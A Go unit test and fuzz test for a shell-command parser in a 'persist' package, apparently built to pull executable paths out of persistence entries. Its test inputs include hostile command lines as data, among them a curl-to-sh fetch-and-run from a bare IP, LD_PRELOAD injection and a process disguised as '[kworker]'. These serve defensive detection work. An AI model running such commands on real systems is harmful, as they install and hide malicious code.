package persist

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func TestParse(t *testing.T) {
	for _, c := range []struct{ command, paths, names, args string }{
		{"/tmp/x", "/tmp/x", "", ""},
		{"/tmp/x >/dev/null 2>&1 &", "/tmp/x", "", ""},
		{"sh -c '/tmp/a; /tmp/b'", "/tmp/a /tmp/b", "sh", ""},
		{`bash -lc "cd /var/tmp/.x && ./run -o 'a b'"`, "/var/tmp/.x/run", "bash cd", ""},
		{"env X=1 LD_PRELOAD=/tmp/a.so:/tmp/b.so nohup setsid /opt/m", "/tmp/a.so /tmp/b.so /opt/m", "env nohup setsid", ""},
		{"curl -s http://1.2.3.4/a.sh | sh", "", "curl sh", ""},
		{"~/.x/run; $HOME/.y/run; ${HOME}/z", "/root/.x/run /root/.y/run /root/z", "", ""},
		{"D=/dev/shm; $D/run", "/dev/shm/run", "", ""},
		{"/usr/bin/flock -n /tmp/l -c '/tmp/.m/x'", "/usr/bin/flock /tmp/.m/x", "", ""},
		{"su - www-data -c '/tmp/u'", "/tmp/u", "su", ""},
		{"sudo -u nobody /tmp/x -c /tmp/c.json", "/tmp/x", "sudo", "/tmp/c.json"},
		{"python3 -u /opt/a.py", "/opt/a.py", "python3", ""},
		{"python3 -c 'import os' /x", "", "python3", ""},
		{"perl -e 'system 1'", "", "perl", ""},
		{"java -Xmx1g -jar /srv/a.jar", "/srv/a.jar", "java", ""},
		{". /etc/x.sh && source ~/.y", "/etc/x.sh /root/.y", ". source", ""},
		{"sh < /tmp/s", "/tmp/s", "sh", ""},
		{"[ -x /usr/bin/a ] && /usr/bin/a", "/usr/bin/a", "[", ""},
		{"if true; then /tmp/x; fi", "/tmp/x", "if true then fi", ""},
		{"while :; do /tmp/x; sleep 1; done", "/tmp/x", "while : do sleep done", ""},
		{"x=`/tmp/sub`; y=$(/tmp/sub2 a)", "/tmp/sub /tmp/sub2", "", ""},
		{"timeout -k 5 10 nice -n 19 /tmp/x", "/tmp/x", "timeout nice", ""},
		{"find / -exec /tmp/x {} ;", "/tmp/x", "find", ""},
		{"start-stop-daemon --start --exec /tmp/d -- -c", "/tmp/d", "start-stop-daemon", ""},
		{"(/tmp/a &) ; { /tmp/b; }", "/tmp/a /tmp/b", "{ }", ""},
		{`"/tmp/with space"`, "/tmp/with space", "", ""},
		{"/lib64/ld-linux-x86-64.so.2 --preload /tmp/e.so /tmp/x", "/lib64/ld-linux-x86-64.so.2 /tmp/e.so /tmp/x", "", ""},
		{"# /tmp/x", "", "", ""},
		{"trap '/tmp/x' EXIT", "/tmp/x", "trap", ""},
		{"alias ls='/tmp/ls'", "/tmp/ls", "alias", ""},
		{"export BASH_ENV=/tmp/e", "/tmp/e", "export", ""},
		{"/tmp/h -s x /tmp/m", "/tmp/h", "", "/tmp/m"},
		{"screen -dmS x /tmp/m", "/tmp/m", "screen", ""},
		{"tmux new -d 'sh /tmp/m'", "/tmp/m", "tmux sh", ""},
		{"exec -a '[kworker]' /tmp/m", "/tmp/m", "exec", ""},
		{"cp -f -- /usr/bin/b /usr/bin/-bash && cd /usr/bin && ./-bash -c", "/usr/bin/-bash /usr/bin/b", "cp cd", ""},
		{"cp /tmp/a /tmp/c /opt; /opt/a", "/opt/a /tmp/a", "cp", ""},
		{"X=$(( $(/tmp/n) % 3 ))", "/tmp/n", "%", ""},
	} {
		r := parse(c.command, "/root")
		got := []string{strings.Join(r.paths, " "), strings.Join(r.names, " "), strings.Join(r.args, " ")}
		if d := cmp.Diff([]string{c.paths, c.names, c.args}, got); d != "" {
			t.Errorf("parse(%q) (-want +got):\n%s", c.command, d)
		}
	}
}

func FuzzTargets(f *testing.F) {
	for _, s := range []string{"sh -c 'a \"b\" $(c `d`)'", "A=$A$A;A=$A$A", "a <<E\nb\nE", "~", "${", "$(", "`", "'", "\"\\", "sh -c -", "env -u", "a\x00/b", "find -exec"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		r := parse(s, "/root")
		for _, p := range r.paths {
			if !strings.HasPrefix(p, "/") || strings.Contains(p, "\x00") {
				t.Errorf("parse(%q) gave %q", s, p)
			}
		}
	})
}
